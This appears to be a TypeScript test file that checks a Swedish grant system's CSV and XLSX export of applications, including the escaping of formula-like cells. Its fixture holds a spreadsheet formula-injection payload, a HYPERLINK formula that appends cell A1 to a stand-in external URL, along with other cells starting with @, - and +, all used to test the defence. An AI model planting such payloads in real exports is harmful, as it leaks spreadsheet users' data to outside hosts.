import { readFileSync } from "node:fs";
import Papa from "papaparse";
import { readSheet } from "read-excel-file/node";
import { beforeEach, describe, expect, it } from "vitest";
import type { Db } from "@/db/client";
import { seedReferenceData } from "@/db/seed/reference";
import { freshTestDb } from "@/db/testing";
import { registerApplication } from "@/lib/applications/register";
import { createTestRound, TEST_ACTOR } from "@/lib/decisions/test-helpers";
import { inWriteTransaction } from "@/db/transaction";
import { importApplications } from "@/lib/import/apply";
import { parseSpreadsheet } from "@/lib/import/parse";
import { EXPORT_HEADINGS, exportRoundApplications } from "./applications";
import { guardFormula } from "./guard";

const EVIL_ORGANISATION = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka här")';

let db: Db;
let roundId: number;

beforeEach(async () => {
  db = freshTestDb().db;
  seedReferenceData(db);
  roundId = createTestRound(db, { budget: 5_000_000, status: "closed", ordinal: 5, year: 2026 });
  const file = await parseSpreadsheet(
    new Uint8Array(readFileSync(new URL("../import/fixtures/applications-utf8-bom.csv", import.meta.url))),
    "a.csv",
  );
  if (!file.ok) throw new Error(file.error);
  const report = importApplications(db, roundId, file.rows, { allOrNothing: true, actor: TEST_ACTOR });
  expect(report.imported).toBe(5);
  inWriteTransaction(db, (tx) =>
    registerApplication(
      tx,
      roundId,
      {
        leadOrganisation: { name: EVIL_ORGANISATION, kind: "annan" },
        coApplicants: [{ name: "Umeå kommun" }, { name: "Borås Stad" }],
        projectTitle: "@SUM(1+1)",
        description: "",
        focusAreas: ["-1+2", "Trygghet"],
        requestedAmount: 300_000,
        contactName: "+46 kontakt",
        contactTitle: "",
        contactPhone: "+46 90 12 34 56",
        contactEmail: "",
      },
      TEST_ACTOR,
      { allowClosedRound: true },
    ),
  );
});

describe("exportRoundApplications: CSV", () => {
  it("writes UTF-8 with BOM, ';' and CRLF, Swedish headings and one row per application by registration number", async () => {
    const file = await exportRoundApplications(db, roundId, "csv");
    expect(file.fileName).toBe("ansokningar-HJ-2026-omgang-5.csv");
    expect(file.contentType).toBe("text/csv; charset=utf-8");
    expect([...file.body.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);

    // TextDecoder drops the BOM, as Excel does.
    const text = new TextDecoder().decode(file.body);
    expect(text.endsWith("\r\n")).toBe(true);
    const lines = text.split("\r\n");
    expect(lines[0]).toBe(EXPORT_HEADINGS.join(";"));
    expect(lines[1]).toBe(
      "HJ-2026-0001;Umeå kommun;Kommun;Västerbottens län;;Jämställd förskola i Umeå;Förskola; Ledarskap;1200000;Beviljad;1000000;2026-05-20;Anna Berg;Projektledare;090-16 10 00;anna.berg@umea.se"
        .replace("Förskola; Ledarskap", '"Förskola; Ledarskap"'),
    );

    const parsed = Papa.parse<string[]>(text, { delimiter: ";", skipEmptyLines: true }).data;
    expect(parsed.map((r) => r[0])).toEqual(["Diarienummer", "HJ-2026-0001", "HJ-2026-0002", "HJ-2026-0003", "HJ-2026-0004", "HJ-2026-0005", "HJ-2026-0006"]);
    expect(parsed[2]).toEqual(["HJ-2026-0002", "Borås Stad", "Kommun", "Västra Götalands län", "", "Trygga stråk", "Stadsplanering", "850000", "Avslagen", "0", "2026-05-20", "Erik Lund", "Samordnare", "033-35 70 00", "erik.lund@boras.se"]);
    // No decision yet: granted amount and date are empty; co-applicants in their order.
    expect(parsed[3]?.slice(1, 11)).toEqual(["Regionförbundet i Kalmar län", "Regionförbund", "Kalmar län", "Kalmars kommun", "Jämställd regional tillväxt", "Tillväxt", "2000000", "Inkommen", "", ""]);
  });

  it("prefixes every text cell that Excel would run as a formula with an apostrophe", async () => {
    const file = await exportRoundApplications(db, roundId, "csv");
    const parsed = Papa.parse<string[]>(new TextDecoder().decode(file.body), { delimiter: ";", skipEmptyLines: true }).data;
    const evil = parsed.find((r) => r[0] === "HJ-2026-0006");
    expect(evil).toEqual([
      "HJ-2026-0006",
      `'${EVIL_ORGANISATION}`,
      "Annan",
      "",
      "Umeå kommun; Borås Stad",
      "'@SUM(1+1)",
      "'-1+2; Trygghet",
      "300000",
      "Inkommen",
      "",
      "",
      "'+46 kontakt",
      "",
      "'+46 90 12 34 56",
      "",
    ]);
  });
});

describe("exportRoundApplications: XLSX", () => {
  it("reads back with read-excel-file as the same values: numbers as numbers, guarded text", async () => {
    const file = await exportRoundApplications(db, roundId, "xlsx");
    expect(file.fileName).toBe("ansokningar-HJ-2026-omgang-5.xlsx");
    expect(file.contentType).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");

    const sheet = await readSheet(Buffer.from(file.body));
    expect(sheet[0]).toEqual([...EXPORT_HEADINGS]);
    expect(sheet).toHaveLength(7);
    expect(sheet[1]).toEqual([
      "HJ-2026-0001", "Umeå kommun", "Kommun", "Västerbottens län", null, "Jämställd förskola i Umeå", "Förskola; Ledarskap",
      1_200_000, "Beviljad", 1_000_000, "2026-05-20", "Anna Berg", "Projektledare", "090-16 10 00", "anna.berg@umea.se",
    ]);
    expect(sheet[2]?.[9]).toBe(0);
    expect(sheet[6]?.slice(0, 8)).toEqual(["HJ-2026-0006", guardFormula(EVIL_ORGANISATION), "Annan", null, "Umeå kommun; Borås Stad", "'@SUM(1+1)", "'-1+2; Trygghet", 300_000]);

    // Same values as the CSV, cell for cell.
    const csv = Papa.parse<string[]>(new TextDecoder().decode((await exportRoundApplications(db, roundId, "csv")).body), {
      delimiter: ";",
      skipEmptyLines: true,
    }).data;
    expect(sheet.map((row) => row.map((cell) => (cell === null ? "" : String(cell))))).toEqual(csv);
  });

  it("refuses a round that does not exist", async () => {
    await expect(exportRoundApplications(db, 999, "csv")).rejects.toThrow("Omgången finns inte.");
  });
});
